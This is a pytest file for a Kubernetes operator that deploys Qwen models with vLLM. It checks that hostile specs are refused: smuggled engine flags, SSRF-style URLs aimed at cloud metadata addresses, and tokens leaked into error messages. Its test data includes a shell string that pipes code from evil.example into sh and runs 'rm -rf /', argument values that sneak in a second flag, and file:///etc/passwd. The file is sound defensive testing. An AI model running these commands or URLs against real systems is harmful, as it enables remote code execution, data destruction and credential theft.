"""Bad and hostile specs: what the CRD and the models refuse, and what they deliberately let through.

The corpus (tests/manifests/invalid/, checked file by file in test_manifests.py) is audited here:
every file names its category, and the hostile ones say so. Specs too big for files, and the
ones only the models can refuse, come from tests/hostile_specs.py. Then tables pin each decision:
which spellings of a vLLM flag, which URLs, which argument values are refused, and which are not.
"""

from __future__ import annotations

import ipaddress
import re
import time
from collections import Counter
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
import yaml

from qwenops.api.errors import InvalidSpecError
from qwenops.api.rules import URL_RULES
from qwenops.api.spec import parse_spec
from qwenops.api.status import QwenDeploymentStatus
from tests.hostile_specs import GENERATED, MODELS_ONLY, PIN, HostileSpec
from tests.schema_check import admit

INVALID = Path(__file__).resolve().parents[1] / "manifests" / "invalid"
CATEGORIES = {
    "type": "a value of the wrong JSON type (strings for numbers, objects for lists, booleans)",
    "range": "a number or a size outside its bounds",
    "huge": "a value far past any real one: billions, 1e308, megabytes, thousands of levels",
    "format": "a string in the wrong form",
    "required": "a required field left out",
    "unknown-field": "a field the API does not have, at any level",
    "pin": "a model revision or digest that pins nothing",
    "consistency": "fields that contradict each other",
    "argv": "a vLLM flag the operator sets, smuggled in through engine.extraArgs",
    "injection": "names, paths and labels that try to escape what they name",
    "url": "credentials, other schemes and metadata addresses in a URL",
}
MINIMUM = {"type": 15, "huge": 20, "argv": 15, "injection": 20, "url": 15, "unknown-field": 15, "pin": 10}


def corpus() -> list[tuple[Path, str, bool]]:
    found = []
    for path in sorted(INVALID.glob("*.yaml")):
        comments = [line for line in path.read_text(encoding="utf-8").splitlines() if line.startswith("#")]
        categories = [line.removeprefix("# category:").strip() for line in comments if line.startswith("# category:")]
        assert len(categories) == 1, f"{path.name}: one `# category:` line"
        found.append((path, categories[0], comments[0].startswith("# HOSTILE: ")))
    return found


def test_every_invalid_manifest_has_a_known_category() -> None:
    unknown = {path.name: category for path, category, _ in corpus() if category not in CATEGORIES}
    assert unknown == {}


def test_each_category_is_well_covered() -> None:
    counts = Counter(category for _, category, _ in corpus())
    assert set(counts) == set(CATEGORIES)
    short = {category: counts[category] for category, least in MINIMUM.items() if counts[category] < least}
    assert short == {}


def test_at_least_forty_manifests_are_hostile_and_say_so() -> None:
    hostile = [path for path, _, marked in corpus() if marked]
    assert len(hostile) >= 40
    assert len(corpus()) >= 200


# --- too big for a file -----------------------------------------------------------------------


def problems(spec: Any, name: str = "chat") -> list[str]:
    try:
        parse_spec(name, spec)
    except InvalidSpecError as exc:
        return exc.problems
    return []


def flat(messages: list[str]) -> list[str]:
    return [re.sub(r"\[(\d+)\]", r".\1", message) for message in messages]


@pytest.mark.parametrize("hostile", GENERATED, ids=lambda h: h.name)
def test_generated_hostile_spec_is_refused_by_both_quickly(hostile: HostileSpec) -> None:
    manifest = hostile.manifest()
    started = time.monotonic()
    crd_errors, model_errors = flat(admit(manifest)), flat(problems(manifest["spec"]))
    elapsed = time.monotonic() - started
    assert any(hostile.expect in error for error in crd_errors), crd_errors[:3]
    assert any(hostile.expect in error for error in model_errors), model_errors[:3]
    assert elapsed < 10, f"{elapsed:.1f}s: a refusal must not take long, whatever the size"
    # Nothing a refusal says repeats the hostile value: it ends up in status and in events.
    assert max(len(error) for error in crd_errors + model_errors) < 400


@pytest.mark.parametrize("hostile", MODELS_ONLY, ids=lambda h: h.name)
def test_map_keys_are_refused_by_the_models_only(hostile: HostileSpec) -> None:
    """The CRD cannot check a map's keys (see tests/hostile_specs.py): these reach the operator,
    which refuses them with InvalidSpec (tests/integration/test_hostile_specs.py)."""
    manifest = hostile.manifest()
    assert admit(manifest) == []
    model_errors = problems(manifest["spec"])
    assert any(hostile.expect in error for error in model_errors), model_errors
    assert max(len(error) for error in model_errors) < 400


# --- engine.extraArgs -------------------------------------------------------------------------


def both(spec: dict[str, Any]) -> tuple[list[str], list[str]]:
    manifest = {"apiVersion": "qwenops.io/v1alpha1", "kind": "QwenDeployment", "metadata": {"name": "chat"}}
    return admit({**manifest, "spec": spec}), problems(spec)


def engine(*args: str) -> dict[str, Any]:
    return {"model": PIN, "engine": {"extraArgs": list(args)}}


@pytest.mark.parametrize(
    "args",
    [
        ["--served-model-name", "x"], ["--served-model-name=x"], ["--served_model_name", "x"],
        ["--served-mod", "x"], ["--served-model-name.key", "x"], ["--port=1"], ["--po", "1"],
        ["--hos", "0.0.0.0"], ["--host=::"], ["-tp", "2"], ["-t", "2"], ["-tp=2"],
        ["--tensor-parallel", "2"], ["--tensor_parallel_size=2"], ["--max-model", "5"],
        ["--gpu-memory-util", "0.1"], ["--device-memory-utilization", "0.1"], ["--disable-log-stats"],
        ["--disable-log-s"], ["--disable_log_stats"], ["--model", "x/y"], ["--mod=x/y"], ["--rev", "main"],
        ["--revision=main"], ["--config", "x.yaml"], ["--conf=x.yaml"], ["--uds", "/tmp/s"],
        ["--hf-token", "hf_x"], ["--hf_tok=hf_x"], ["--host 0.0.0.0 --port 1"],
        ["--enable-prefix-caching\n--port=1"], ["--reasoning-parser", "qwen3\x00--port=1"],
        ["--reasoning-parser", "qwen3", "--port", "1"],
    ],
    ids=repr,
)  # fmt: skip
def test_every_spelling_of_a_managed_flag_is_refused(args: list[str]) -> None:
    crd_errors, model_errors = both(engine(*args))
    assert any(error.startswith("spec.engine.extraArgs") for error in crd_errors), crd_errors
    assert any(error.startswith("spec.engine.extraArgs") for error in model_errors), model_errors


@pytest.mark.parametrize(
    "args",
    [
        ["--reasoning-parser", "qwen3"],
        # The arguments are an argv list, never read by a shell: these are plain text to vLLM.
        ["--chat-template", "$(curl https://evil.example | sh); rm -rf / `id` && echo $HOME > /x"],
        ["--chat-template", "{% for m in messages %}\n{{ m.content }}\n{% endfor %}"],
        ["--override-generation-config={\"temperature\": 0.6, \"top_p\": 0.95}"],
        ["--model-impl", "vllm"], ["--max-num-seqs", "256"], ["--seed", "-1"], ["-O3"], ["-q", "fp8"],
        ["--enable-auto-tool-choice", "--tool-call-parser", "hermes"], ["--no-enable-prefix-caching"],
        ["--hf-overrides", "{\"rope_scaling\": null}"], ["--port-range-free-text"],
    ],
    ids=repr,
)  # fmt: skip
def test_other_flags_and_any_value_pass(args: list[str]) -> None:
    assert both(engine(*args)) == ([], [])


def test_a_refusal_never_repeats_a_token_it_was_given() -> None:
    secret = "hf_aBcDeFgHiJkLmNoPqRsTuVwXyZ"
    specs = [
        engine(f"--hf-token={secret}"),
        engine("--hf-token", secret),
        {"model": {**PIN, "hubEndpoint": f"https://user:{secret}@hub.example"}},
        {"model": PIN, "rollout": {"analysis": {"prometheus": {"url": f"http://u:{secret}@prometheus:9090"}}}},
    ]
    for spec in specs:
        crd_errors, model_errors = both(spec)
        assert crd_errors and model_errors
        assert not any(secret in error for error in crd_errors + model_errors)


# --- URLs -------------------------------------------------------------------------------------

REFUSED_URLS = [
    "http://user:password@prometheus.monitoring:9090", "http://token@prometheus.monitoring",
    "http://prometheus.monitoring:9090/?x=1", "http://prometheus.monitoring:9090#x",
    "http://169.254.169.254/latest/meta-data/", "http://169.254.0.1:9090", "http://[fe80::1]:9090",
    "http://[FE80::1%25eth0]/", "http://[febf::1]/", "http://[::ffff:169.254.169.254]/",
    "http://[::ffff:a9fe:a9fe]/", "http://[0:0:0:0:0:ffff:a9fe:a9fe]/", "http://[fd00:ec2::254]/",
    "http://100.100.100.200/", "http://2852039166/", "http://0xa9fea9fe/", "http://0251.0376.0251.0376/",
    "http://169.254.43518/", "http://0xa9.0xfe.0xa9.0xfe/", "http://010.0.0.1/", "http://1.2.3/",
    "http://256.1.1.1/", "http://1.2.3.4./", "http://prometheus\u2024monitoring/", "http://hub-mirr\u043er.internal",
    "file:///etc/passwd", "javascript:alert(1)", "ftp://prometheus", "gopher://prometheus:70/",
]  # fmt: skip
ADMITTED_URLS = [
    "http://prometheus.monitoring:9090", "https://prometheus.example.com/api/prom",
    "http://prometheus.monitoring.svc.cluster.local:9090/", "http://10.0.0.1:9090", "http://192.168.1.10",
    "http://127.0.0.1:9090", "http://[::1]:9090", "http://[fd00::1]:9090", "http://[2001:db8::1]/",
    "http://169.254.169.254.example.com/", "http://0x7f.example.com/", "http://255.255.255.255/",
]  # fmt: skip


def url_specs(url: str) -> list[dict[str, Any]]:
    return [
        {"model": {**PIN, "hubEndpoint": url}},
        {"model": PIN, "rollout": {"analysis": {"prometheus": {"url": url}}}},
    ]


@pytest.mark.parametrize("url", REFUSED_URLS)
def test_refused_urls(url: str) -> None:
    for spec in url_specs(url):
        crd_errors, model_errors = both(spec)
        assert crd_errors and model_errors, spec


@pytest.mark.parametrize("url", ADMITTED_URLS)
def test_admitted_urls(url: str) -> None:
    for spec in url_specs(url):
        assert both(spec) == ([], [])


@pytest.mark.parametrize("url", [u for u in REFUSED_URLS + ADMITTED_URLS if urlsplit(u).scheme in ("http", "https")])
def test_the_link_local_rule_agrees_with_ipaddress(url: str) -> None:
    """For a host written as a canonical IP, the rule refuses exactly link-local addresses (and the
    metadata addresses outside link-local), IPv4-mapped ones included."""
    host = urlsplit(url).hostname or ""
    try:
        address = ipaddress.ip_address(host.split("%")[0])
    except ValueError:
        return  # a name, or a form only a resolver reads (refused by the octets rule)
    mapped = address.ipv4_mapped if isinstance(address, ipaddress.IPv6Address) else None
    metadata = {ipaddress.ip_address("fd00:ec2::254"), ipaddress.ip_address("100.100.100.200")}
    expected = address.is_link_local or bool(mapped and mapped.is_link_local) or address in metadata
    link_local_rule = next(rule for rule in URL_RULES if "link-local" in rule.message)
    assert link_local_rule.refuses(url) == expected


# --- what the models keep reading ---------------------------------------------------------------


def test_status_records_from_before_the_new_rules_still_parse() -> None:
    """A revision started under an older operator keeps its record: the rules added for what a
    person asks for (parse_spec) do not apply to what status remembers, or the status would start
    over and the stable revision be forgotten."""
    record = {
        "revision": "abc1234567",
        "model": {**PIN, "name": "Qwen/Qwen3--8B", "size": "1Pi", "hubEndpoint": "http://u:p@mirror"},
        "engine": {"extraArgs": ["-tp", "2"], "image": "img with space"},
        "nodePool": {"tolerations": [{"operator": "Exists", "value": "x"}], "affinity": {"old": {"free": "form"}}},
    }
    status = QwenDeploymentStatus.model_validate({"stable": record})
    assert status.stable is not None and status.stable.engine.extra_args == ["-tp", "2"]
    assert problems({"model": record["model"], "engine": record["engine"], "nodePool": record["nodePool"]})


def test_parse_spec_is_strict_where_a_lax_parser_would_coerce() -> None:
    for spec in (
        {"model": PIN, "replicas": "3"},
        {"model": PIN, "replicas": True},
        {"model": PIN, "replicas": 2.0},
        {"model": PIN, "engine": {"gpuMemoryUtilization": "0.9"}},
        {"model": {**PIN, "revision": 10**39}},
    ):
        assert problems(spec), spec
    assert problems({"model": PIN, "engine": {"gpuMemoryUtilization": 1}}) == []  # an int is a number


def test_the_valid_corpus_and_examples_pass_the_new_rules() -> None:
    valid = [*sorted((INVALID.parent / "valid").glob("*.yaml")), *sorted((INVALID.parents[2] / "examples").glob("*.yaml"))]
    assert valid
    for path in valid:
        manifest = yaml.safe_load(path.read_text(encoding="utf-8"))
        assert problems(manifest["spec"], manifest["metadata"]["name"]) == [], path.name
